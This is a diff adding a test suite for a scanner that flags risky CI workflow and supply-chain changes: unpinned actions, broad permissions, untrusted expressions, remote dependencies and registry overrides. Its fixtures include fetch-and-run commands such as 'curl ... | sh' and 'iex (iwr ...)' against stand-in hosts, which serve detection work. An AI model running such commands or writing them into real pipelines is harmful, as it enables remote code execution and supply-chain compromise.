@@ -1,0 +1,256 @@
+import { describe, expect, test } from 'vitest';
+import { ok } from '../../src/primitives.ts';
+import { aFile, aSpec, type Case, findingOf, rulesOf, sha } from './case.ts';
+
+const path = '.github/workflows/ci.yml';
+const changed = (after: string | null, before: string | null = null, name = path): Case => ({
+  files: [aFile(name)],
+  specs: [ok(aSpec({ scopeIn: ['.github', name] }))],
+  change: { inspected: [{ path: name, before, after }] },
+});
+const hazards = (facts: Case) =>
+  rulesOf(facts).filter((rule) => /^(?:workflow|supply)\./.test(rule));
+const workflow = (steps: string, head = 'on: push') =>
+  `${head}\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n${steps}\n`;
+const runs = (command: string, head?: string) =>
+  workflow(`      - run: |\n${command.replace(/^/gm, '          ')}`, head);
+const expression = (inner: string) => `\${{ ${inner} }}`;
+
+const harmless = workflow(
+  `      - uses: actions/checkout@${sha('v7')}\n      - run: npm ci && npm test`,
+);
+
+test('a workflow with pinned actions, no rights and hosted machines adds nothing', () => {
+  expect(hazards(changed(harmless))).toEqual([]);
+});
+
+describe('only what the change adds counts', () => {
+  const risky = workflow('      - uses: actions/checkout@v4');
+  test('the same hazard before and after is nothing new', () => {
+    expect(hazards(changed(`${risky}# edited`, risky))).toEqual([]);
+  });
+  test('the same hazard twice is one more', () => {
+    const twice = workflow('      - uses: actions/checkout@v4\n      - uses: actions/checkout@v4');
+    expect(hazards(changed(twice, risky))).toEqual(['workflow.unpinned-action']);
+  });
+  test('a text before that could not be read held nothing', () => {
+    expect(hazards(changed(risky, 'on: [push'))).toEqual(['workflow.unpinned-action']);
+  });
+  test('a checkout that was there becomes one of the head by a new trigger', () => {
+    const ref = workflow(
+      `      - uses: actions/checkout@${sha('v7')}\n        with: {ref: "${expression('github.head_ref')}"}`,
+    );
+    const found = hazards(changed(ref.replace('on: push', 'on: pull_request_target'), ref));
+    expect(found).toEqual(['workflow.head-checkout', 'workflow.privileged-trigger']);
+  });
+});
+
+describe('references of actions', () => {
+  test.for([
+    [`actions/checkout@${sha('x')}`, true],
+    [`org/repo/.github/workflows/w.yml@${sha('x')}`, true],
+    ['./.github/actions/mine', true],
+    [`docker://alpine@sha256:${'a'.repeat(64)}`, true],
+    ['actions/checkout@v4', false],
+    ['actions/checkout@main', false],
+    [`actions/checkout@${sha('x').slice(0, 39)}`, false],
+    [`actions/checkout@${sha('x').toUpperCase()}`, false],
+    ['actions/checkout', false],
+    ['docker://alpine:3', false],
+  ] as const)('%s is pinned: %s', ([uses, pinned]) => {
+    expect(hazards(changed(workflow(`      - uses: ${uses}`)))).toEqual(
+      pinned ? [] : ['workflow.unpinned-action'],
+    );
+  });
+});
+
+describe('rights', () => {
+  const rights = (permissions: string) =>
+    `on: push\npermissions: ${permissions}\njobs: {a: {runs-on: ubuntu-24.04}}`;
+  test.for([
+    ['write-all'],
+    ['{contents: write}'],
+    ['{id-token: write}'],
+    ['{contents: admin}'],
+    ['null'],
+  ])('permissions: %s', ([permissions]) => {
+    expect(hazards(changed(rights(permissions ?? '')))).toEqual(['workflow.permissions']);
+  });
+  test.for([['read-all'], ['{contents: read, issues: none}'], ['{}']])(
+    'permissions: %s are none to ask about',
+    ([permissions]) => {
+      expect(hazards(changed(rights(permissions ?? '')))).toEqual([]);
+    },
+  );
+  test('taking the word on rights away gives the default ones', () => {
+    const before = rights('{contents: read}');
+    const after = 'on: push\njobs: {a: {runs-on: ubuntu-24.04}}';
+    expect(hazards(changed(after, before))).toEqual(['workflow.permissions']);
+  });
+  test('rights of one job count as those of all', () => {
+    const after =
+      'on: push\npermissions: {}\njobs: {a: {runs-on: ubuntu-24.04, permissions: {packages: write}}}';
+    expect(hazards(changed(after))).toEqual(['workflow.permissions']);
+  });
+});
+
+describe('text of strangers in commands', () => {
+  test.for([
+    ['github.event.pull_request.title'],
+    ['github.event["issue"]["body"]'],
+    ["github [ 'head_ref' ]"],
+    ['github.head_ref'],
+    ['github.ref_name'],
+    ['toJSON(github)'],
+    ['github.event.commits[0].message'],
+    ['format("{0}", GitHub.Event.Comment.Body)'],
+    ['inputs.name'],
+    ['env.TITLE'],
+    ['steps.x.outputs.y'],
+  ])('%s', ([inner]) => {
+    expect(hazards(changed(runs(`echo ${expression(inner ?? '')}`)))).toEqual([
+      'workflow.untrusted-expression',
+    ]);
+  });
+  test.for([
+    ['github.sha'],
+    ['github.event.pull_request.number'],
+    ['github.run_id'],
+    ['matrix.node'],
+    ['secrets.TOKEN'],
+  ])('%s is none', ([inner]) => {
+    expect(hazards(changed(runs(`echo ${expression(inner ?? '')}`)))).toEqual([]);
+  });
+  test('an expression that is never closed is read to its end', () => {
+    expect(hazards(changed(runs('echo ${'.concat('{ github.head_ref'))))).toEqual([
+      'workflow.untrusted-expression',
+    ]);
+  });
+  test('the script input of an action is a command too', () => {
+    const script = workflow(
+      `      - uses: actions/github-script@${sha('x')}\n        with:\n          script: console.log("${expression('github.event.issue.title')}")`,
+    );
+    expect(hazards(changed(script))).toEqual(['workflow.untrusted-expression']);
+  });
+});
+
+describe('scripts straight from the network', () => {
+  test.for([
+    ['curl -sSf https://x.example/i | sh'],
+    ['wget -qO- https://x.example/i | sudo -E bash -s -- -y'],
+    ['curl https://x.example/i |\n  python3'],
+    ['curl https://x.example/i \\\n  | bash'],
+    ['bash <(curl -s https://x.example/i)'],
+    ['sh -c "$(curl -fsSL https://x.example/i)"'],
+    ['eval "$(curl https://x.example/i)"'],
+    ['iex (iwr https://x.example/i)'],
+    ['curl https://x.example/i | /usr/bin/env bash'],
+    [`curl https://x.example/i ${' '.repeat(5_000)}| sh`],
+    [`curl https://x.example/${'i'.repeat(5_000)} | sh`],
+  ])('%s', ([command]) => {
+    expect(hazards(changed(runs(command ?? '')))).toEqual(['workflow.pipe-to-shell']);
+  });
+  test.for([
+    ['curl -o x.tgz https://x.example/x.tgz'],
+    ['cat list | sort'],
+    ['npm run fetch | tee log'],
+  ])('%s is none', ([command]) => {
+    expect(hazards(changed(runs(command ?? '')))).toEqual([]);
+  });
+});
+
+describe('a workflow that nobody can read', () => {
+  test.for([
+    ['its text is not known', changed(null)],
+    ['it is no document', changed('on: [push')],
+    ['it is a list', changed('- on: push')],
+    ['it was not inspected', { ...changed(harmless), change: { inspected: [] } }],
+    [
+      'it is a link',
+      { ...changed(harmless), files: [aFile(path, { kind: 'symlink', linkTarget: 'x.yml' })] },
+    ],
+  ] as const)('%s', ([, facts]) => {
+    expect(hazards(facts)).toEqual(['workflow.unreadable']);
+  });
+  test('is no matter once it is deleted', () => {
+    expect(hazards({ ...changed(null), files: [aFile(path, { status: 'deleted' })] })).toEqual([]);
+  });
+});
+
+test('a hazard is named with its line', () => {
+  const found = findingOf(
+    changed(workflow('      - uses: actions/checkout@v4')),
+    'workflow.unpinned-action',
+  );
+  expect(found).toMatchObject({
+    subject: 'actions/checkout@v4',
+    places: [{ file: path, line: 7 }],
+  });
+});
+
+test('an action of the repository is read like a workflow', () => {
+  const action = 'runs:\n  using: composite\n  steps:\n    - uses: evil/x@main\n';
+  expect(hazards(changed(action, null, 'tools/action.yml'))).toEqual(['workflow.unpinned-action']);
+});
+
+describe('supply chain', () => {
+  const manifest = (after: object, before: object = {}) =>
+    changed(JSON.stringify(after), JSON.stringify(before), 'package.json');
+
+  test.for([
+    ['git+https://x.example/y.git'],
+    ['https://x.example/y.tgz'],
+    ['github:evil/x'],
+    ['evil/x#main'],
+    ['git@x.example:y.git'],
+    ['file:../y'],
+    ['../y'],
+    ['link:y'],
+    ['ssh://x.example/y'],
+  ])('a dependency on %s comes from no registry', ([version]) => {
+    expect(hazards(manifest({ dependencies: { y: version } }))).toEqual([
+      'supply.remote-dependency',
+    ]);
+    expect(hazards(manifest({ overrides: { a: { y: version } } }))).toEqual([
+      'supply.remote-dependency',
+    ]);
+  });
+  test.for([['^1.2.3'], ['1.x || >=2'], ['npm:other@1'], ['workspace:*'], ['latest']])(
+    'a dependency on %s does',
+    ([version]) => {
+      expect(hazards(manifest({ devDependencies: { y: version } }))).toEqual([]);
+    },
+  );
+  test('a script that runs on install counts when it is new or another', () => {
+    const scripts = (prepare: string) => ({ scripts: { prepare, test: 'vitest' } });
+    expect(hazards(manifest(scripts('husky'), scripts('husky')))).toEqual([]);
+    expect(hazards(manifest(scripts('node evil.js'), scripts('husky')))).toEqual([
+      'supply.lifecycle-script',
+    ]);
+    expect(hazards(manifest({ scripts: { test: 'evil' } }))).toEqual([]);
+  });
+  test.for([
+    ['evil.js -diff'],
+    ['*.lock binary'],
+    ['* filter=lfs'],
+    ['src/** linguist-generated=true'],
+    ['*.ts merge=ours'],
+    ['secret export-ignore'],
+    ['*.js diff=minified'],
+    ['[attr]hidden -diff'],
+    ['*.c working-tree-encoding=UTF-16'],
+  ])('the attribute line %s', ([line]) => {
+    expect(hazards(changed(`${line}\n`, '# nothing\n', '.gitattributes'))).toEqual([
+      'supply.git-attributes',
+    ]);
+  });
+  test.for([
+    ['@scope:registry=https://evil.example'],
+    ['//evil.example/:_authToken=x'],
+    ['script-shell=./x'],
+  ])('the npm setting %s', ([line]) => {
+    expect(hazards(changed(`save-exact=true\n${line}\n`, 'save-exact=true\n', '.npmrc'))).toEqual([
+      'supply.registry',
+    ]);
+  });
+});
